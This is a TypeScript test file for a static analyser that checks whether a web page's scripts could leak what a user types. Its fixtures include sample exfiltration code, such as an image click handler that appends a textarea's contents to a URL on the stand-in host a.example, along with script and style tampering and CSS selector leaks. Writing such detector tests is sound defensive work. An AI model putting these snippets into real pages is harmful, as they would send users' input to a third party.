import assert from 'node:assert/strict'
import { test } from 'node:test'
import { emptyOutline } from '../html/outline.ts'
import { scanHtml } from '../html/scanHtml.ts'
import { unfold } from './obfuscation.ts'
import { sendsNothing } from './sendsNothing.ts'

const READ = { unread: [], obfuscation: [], scripts: [], linked: true }
const keeps = (code: string, outline = {}, read = {}) =>
  sendsNothing([unfold('inline', code)], { ...emptyOutline(), ...outline }, { ...READ, ...read })

const LOCAL =
  "const at = (id) => document.getElementById(id); const acts = [async (button) => { const bytes = new TextEncoder().encode(at('area').value.normalize('NFKD')); at('out').textContent = [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((one) => one.toString(16)).join(' '); localStorage.setItem('k', at('out').textContent) }]\nconst v = at('area').value; document.querySelectorAll('[data-at]').forEach((button) => { button.onclick = () => Promise.resolve(acts[button.dataset.at](button)).catch(() => undefined) })"

/** Whether a document with these scripts keeps what is typed. */
async function isKept(html: string, ...more: string[]): Promise<boolean> {
  const outline = await scanHtml(html, AbortSignal.timeout(20_000))
  const codes = [...outline.scripts.map(({ code }) => code), ...outline.handlers, ...more]
  return sendsNothing(
    codes.map((code) => unfold('inline', code)),
    outline,
    READ,
  )
}

const HELPER = 'const at = (id) => document.getElementById(id); '

test('names of a page are those that the code makes around them, and no names of its elements', async () => {
  for (const [html, ...codes] of [
    ['<textarea id="v"></textarea><p id="view"></p>', LOCAL],
    ['<style>p{color:red}</style><p id="view"></p>', `${HELPER}at('view').textContent = 'a'`],
    [
      '<style>p{}</style>',
      "const at = (one) => document.querySelector(one); at('#a').textContent = at('output [data-b=\"1\"], .c > p').value",
    ],
    ['<p id="a"></p>', `${HELPER}at('a').textContent = 'a'`, "document.getElementById('a').hidden = true"],
    ['<p id="a"></p>', 'const of = (one) => one.length; const by = (one) => one.length; of([by([])])'],
  ] as const)
    assert.equal(await isKept(html, ...codes), true, codes.join('\n'))
  for (const [html, ...codes] of [
    ['', `(() => { const pic = {}; pic.v = '1' })(); pic.src = 'https://a.example/x.js'`],
    ['', `(() => { const pic = {}; pic.v = '1' })(); pic.outerHTML = '<p onpointermove=a>'`],
    ['<img id="pic">', `(() => { const pic = 1; pic.toString() })(); pic.hidden = true`],
    [
      '<p id="h"></p>',
      `${HELPER}const show = (html) => { at('view').innerHTML = html }; show('<p>a</p>')`,
      '(() => { const show = 1; show.toString() })(); show(document.querySelector("#h").textContent)',
    ],
    [
      '<p id="html"></p>',
      `${HELPER}const show = (html) => { at('view').innerHTML = html }; show('<p>a</p>'); at('view').innerHTML = html`,
    ],
    ['', 'const k = document', '(() => { const k = [] })(); k[v]'],
    ['', 'const k = document; (() => { const k = []; k.length })(); k[0]; const v = 1; k[v]'],
    ['', '({ a: pic }); pic.hidden = true'],
    ['', '[pic] = [1]; pic.hidden = true'],
    ['', 'const f = (a = pic) => { var pic = 1; a.hidden = true }; f()'],
    ['', 'switch (pic.value) { case 0: let pic = 1 }'],
    ['', 'if (0) function pic() { } pic.hidden = true'],
    ['', '{ function pic() { } } pic.hidden = true'],
    ['', `var map = (html) => { document.getElementById('v').innerHTML = html }; map('<p>'); this.map(v)`],
    ['', `var value = {}; this.value = document.getElementById('a'); value.src = 'https://a.example'`],
    ['', '[document] = [1]'],
    ['', 'document++'],
    ['', 'const f = function () { return this }; f().name'],
  ] as const)
    assert.equal(await isKept(html, ...codes), false, codes.join('\n'))
})

test('code that reaches scripts or styles of its document, and handlers of elements, send', async () => {
  for (const [html, ...codes] of [
    [
      '<script id="s" type="text/plain">fetch(u)</script>',
      `${HELPER}Object.assign(at('s'), { type: 'module' }); at('s').append(' ')`,
    ],
    ['<p id="s"></p>', `${HELPER}Object.assign(at('s'), { type: 'module' })`],
    ['<p id="s"></p>', `${HELPER}Object.assign(at('s'), { className: 'a' })`],
    ['<script id="s"></script>', `${HELPER}at('s').textContent = at('h').textContent`],
    ['<script></script>', `document.querySelector('script').textContent = 'a'`],
    ['<style id="s"></style>', `${HELPER}at('s').textContent = new TextDecoder().decode(at('h').value)`],
    ...[
      "document.querySelector('style').textContent = 'a'",
      "document.querySelectorAll('*').forEach((one) => { one.textContent = v })",
      "const at = (one) => document.querySelector(one); at('head > :first-child').textContent = 'a'",
      "const at = (one) => document.querySelector(one); at('p, style').textContent = 'a'",
      "const at = (one) => document.querySelector(one); at('[nonce]').textContent = 'a'",
      "[...document.all].forEach((one) => { one.textContent = 'a' })",
      "['style'].map(document.querySelector, document)",
      "const { querySelector: find } = document; ['style'].map(find, document)",
      "document.addEventListener('load', (one) => { one.target.textContent = 'a' }, true)",
      "document.addEventListener('load', ({ target }) => { target.textContent = 'a' }, true)",
    ].map((code) => ['<style>p{color:red}</style>', code] as const),
    [`<img onclick="[onclick=>0,src=>0],src='https://a.example/?'+document.querySelector('textarea').value">`],
    ['<p onclick="1"></p>'],
    ['<svg><script href="https://a.example"></script></svg>'],
    ['<meta http-equiv="refresh" content="60;url=/next">', "localStorage.setItem('a', 'b')"],
    ['<map><area href="/next"></map>', "localStorage.setItem('a', 'b')"],
    ['<img id="a" loading="lazy" src="/1" hidden>', `${HELPER}at('a').hidden = false`],
    ['<style>[value^=a]{background:url(/a)}</style>', `${HELPER}at('a').value = at('b').value`],
    ['<style>.a{background:url(/a)}</style>', LOCAL],
  ] as const)
    assert.equal(await isKept(html, ...codes), false, [html, ...codes].join('\n'))
})

test('code that takes too many steps may send', () => {
  const show = "const show = (html) => { at('view').innerHTML = html };"
  const hostile = {
    'one name that is used very often': 'a;'.repeat(49_990),
    'one own name that is used very often': `const a = 1; ${'a;'.repeat(49_900)}`,
    'many parameters and many calls': `const f = (${Array.from({ length: 8_000 }, (_, at) => `a${at}`).join()}) => 0; ${'f();'.repeat(12_000)}`,
    'many uses of a value that many calls give': `${HELPER}const show = (html) => { ${"at('v').innerHTML = html;".repeat(1_500)} }; ${"show('<p>a</p>');".repeat(2_000)}`,
    'a long markup that is used very often': `${HELPER}${show} ${"show('<p>a</p>');".repeat(5_000)}`,
    'many names of one, made deep inside': `${'{ let a; '.repeat(4_000)}${'b;'.repeat(9_000)}${'}'.repeat(4_000)}`,
    'many objects that are given': `const h = (props) => { const made = document.createElement('p'); ${'Object.assign(made, props);'.repeat(1_500)} }; ${'h({});'.repeat(4_000)}`,
  }
  const began = process.cpuUsage()
  const answers = Object.entries(hostile).map(([name, code]) => [name, keeps(code)])
  const { user, system } = process.cpuUsage(began)
  assert.deepEqual(
    answers.filter(([, isKept]) => isKept).map(([name]) => name),
    ['one own name that is used very often', 'a long markup that is used very often'],
  )
  assert.ok(user + system < 8_000_000, `${user + system} µs of processor time`)
})
